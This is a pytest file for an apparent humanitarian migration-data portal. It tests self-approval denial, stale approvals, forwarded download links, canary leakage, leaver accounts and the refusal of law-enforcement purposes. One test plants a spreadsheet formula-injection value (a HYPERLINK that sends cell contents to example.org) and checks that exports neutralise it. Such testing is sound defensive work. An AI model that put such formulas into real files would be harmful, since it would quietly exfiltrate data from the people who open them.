"""Scenario 10. What people try, on purpose or by mistake: an own request, a changed one, a forwarded link, canaries."""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest

from portal import clock
from portal.actor import Role
from portal.auth.models import Grant
from portal.db import session
from portal.exports.models import Release
from tests import factories, snapshots
from tests.journeys.play import Play, members

GREEN = {"rows": {"country": ["LBY", "NER"]}, "variables": ["drivers"]}
MINISTRY = "Ministry of the Interior"


@pytest.fixture
def play(app, as_person, moments):
    play = Play(app, as_person, moments["signed"].facts)
    play.enters("ida", "Partner", Role.REGIONAL_MANAGER, regions=["WANA"], called="Ida Inside")
    play.enters("uma", "Partner", called="Uma Unnamed")
    play.enters("mino", MINISTRY, kind="ngo", called="Mino Ministry")
    return play


def denied(play, who, reason=""):
    """Return the denials of one person in the log."""
    found = [one for one in play.told("authz.denied") if one["actor"].get("ref") == play.people[who].ref]
    return [one for one in found if not reason or one["reason"] == reason]


def approved(play, **why):
    ref = play.sends("anna", "4mi-core", **GREEN, team=["ben"], **why)
    assert play.verdict("wana", ref).status_code == 303
    return ref


def test_nobody_approves_what_their_own_organisation_asks_for(play):
    ref = play.sends("anna", "4mi-core", **GREEN, team=["ben"])
    assert play.get("ida", f"/tracks/{play.tracks(ref)['WANA'].ref}").status_code == 200
    before = len(denied(play, "ida"))
    assert play.verdict("ida", ref, region="WANA").status_code == 403
    assert len(denied(play, "ida")) == before + 1
    assert play.decisions() == []
    assert play.request(ref).state == "in_review:regions"


def test_an_approval_is_for_what_was_asked_and_void_once_it_is_changed(play):
    # Somebody decides on a page that is out of date: refused, with what differs
    ref = play.sends("anna", "4mi-core", **GREEN, team=["ben"])
    old = play.tracks(ref)["WANA"].slice_sha256
    assert play.verdict("wana", ref, "ask", rationale="Why Libya?").status_code == 303
    play.fills("anna", ref, "variables", variables=["drivers", "needs_now"])
    assert play.post("anna", f"/requests/{ref}/answer", lock=play.lock(ref), reply="We need both.").status_code == 303
    assert play.tracks(ref)["WANA"].slice_sha256 != old
    stale = play.verdict("wana", ref, sha256=old)
    assert stale.status_code == 409
    assert "needs_now" in stale.text
    assert play.request(ref).state == "in_review:regions"
    # After the approval nothing can be changed any more: neither the form nor what is accepted
    assert play.verdict("wana", ref).status_code == 303
    assert play.request(ref).state == "offered"
    assert play.keep(ref, "variables", name="anna", variables=["exp_types"]).status_code == 409
    assert play.accept(ref, "anna", sha256="0" * 64).status_code == 409
    assert play.look(Release) == []
    assert {one["reason"] for one in denied(play, "anna")} >= {"IllegalStep"}


def test_a_link_is_bound_to_those_named_and_no_canary_leaves(play):
    ref = approved(play, purpose_text='=HYPERLINK("https://example.org/?" & A1, "Read this first")')
    assert play.accept(ref, "anna").status_code == 303
    play.work()
    release = play.release(ref)
    assert release.status == "available", release.held_reason
    link = f"/releases/{release.ref}/download"
    # The link is forwarded: to a colleague who is not named, to another organisation, to nobody who signed in
    for who in ("uma", "mino"):
        assert play.post(who, link).status_code == 404
        assert len(denied(play, who)) == 1
    assert play.app.test_client().post(link).status_code == 401
    assert play.get("anna", link).status_code == 405, "no link hands anything over by being opened"
    # Ben is named: he reads the terms first, accepts them, and has the file
    refused = play.takes("ben", ref)
    assert refused.status_code == 403
    assert "You have not accepted the agreement&#39;s terms as they stand now." in refused.text
    terms = f"/agreements/{play.people['agreement']}/terms"
    seen = re.search(r'name="sha256" value="([0-9a-f]{64})"', play.get("ben", terms).text)[1]
    assert play.post("ben", terms, sha256=seen).status_code == 303
    answer = play.takes("ben", ref)
    files = members(answer)
    # Not a byte of it holds a canary that was planted in the round: no telephone number, address or device
    drawn = snapshots.survey()
    everything = b"\0".join([answer.data, *files.values()]).decode("utf-8", "replace")
    assert drawn.markers
    assert [marker for marker in drawn.markers if marker in everything] == []
    assert not [uuid for uuid in drawn.frame["_uuid"] if len(uuid) > 20 and uuid in everything]
    # and no cell would run as a formula, not even where the file repeats what the requester typed
    table = csv.reader(io.StringIO(files["data.csv"].decode("utf-8-sig") + files["codebook.csv"].decode("utf-8-sig")))
    assert not [cell for line in table for cell in line if cell[:1] in ("=", "+", "@", "\t", "\r")]
    with zipfile.ZipFile(io.BytesIO(files["data.xlsx"])) as workbook:
        sheets = b"".join(workbook.read(name) for name in workbook.namelist())
    assert b"HYPERLINK" in sheets + files["README.html"]
    assert b"<f>" not in sheets
    assert b"<f " not in sheets
    # A leaver's account: the focal point's organisation loses them, the file goes with them
    play.enters("fay", "Partner", Role.FOCAL_POINT)
    gone = play.post("fay", f"/organisation/people/{play.people['ben'].ref}/end", reason="Left us.")
    assert gone.status_code == 303, gone.text
    assert play.get("ben", f"/requests/{ref}").status_code == 303  # to the page for signing in
    assert play.post("ben", link).status_code == 401
    assert play.takes("anna", ref).status_code == 200


def test_no_agreement_lets_the_police_have_anything(play):
    # A ministry, even with an agreement that a mistake has written for everything
    mou = play.agrees("mino", regions=["WANA", "ESA"], purposes=["law_enforcement", "protection"])
    ref = play.draft("mino", "4mi-core", **GREEN, purpose="law_enforcement", ends_on=clock.today() + dt.timedelta(5))
    answer = play.submit(ref, "mino")
    assert answer.status_code == 403
    assert "The data is never given for law enforcement, border control or migration enforcement" in answer.text
    assert "There is no way to receive this data for such a purpose." in answer.text
    (told,) = denied(play, "mino")
    assert (told["reason"], told["data"]["clauses"]) == ("TermsForbid", ["enforcement"])
    assert play.request(ref).status == "draft"
    assert play.agreement_row(mou).status == "active"
    # Where smugglers are is not on the menu at all, whatever the purpose that is named
    for name in ("smuggler_location", "interview_place", "transit_country_1"):
        assert play.keep(ref, "variables", name="mino", variables=[name]).status_code == 400


def test_who_lost_a_role_decides_nothing_with_the_page_still_open(play):
    ref = play.sends("anna", "4mi-core", **GREEN)
    assert play.get("wana", f"/tracks/{play.tracks(ref)['WANA'].ref}").status_code == 200
    with play.app.app_context(), factories.given():
        for grant in session().query(Grant).filter_by(person_id=play.people["wana"].id):
            grant.valid_to = clock.today() - dt.timedelta(days=1)
    assert play.verdict("wana", ref).status_code == 403
    assert len(denied(play, "wana")) == 1
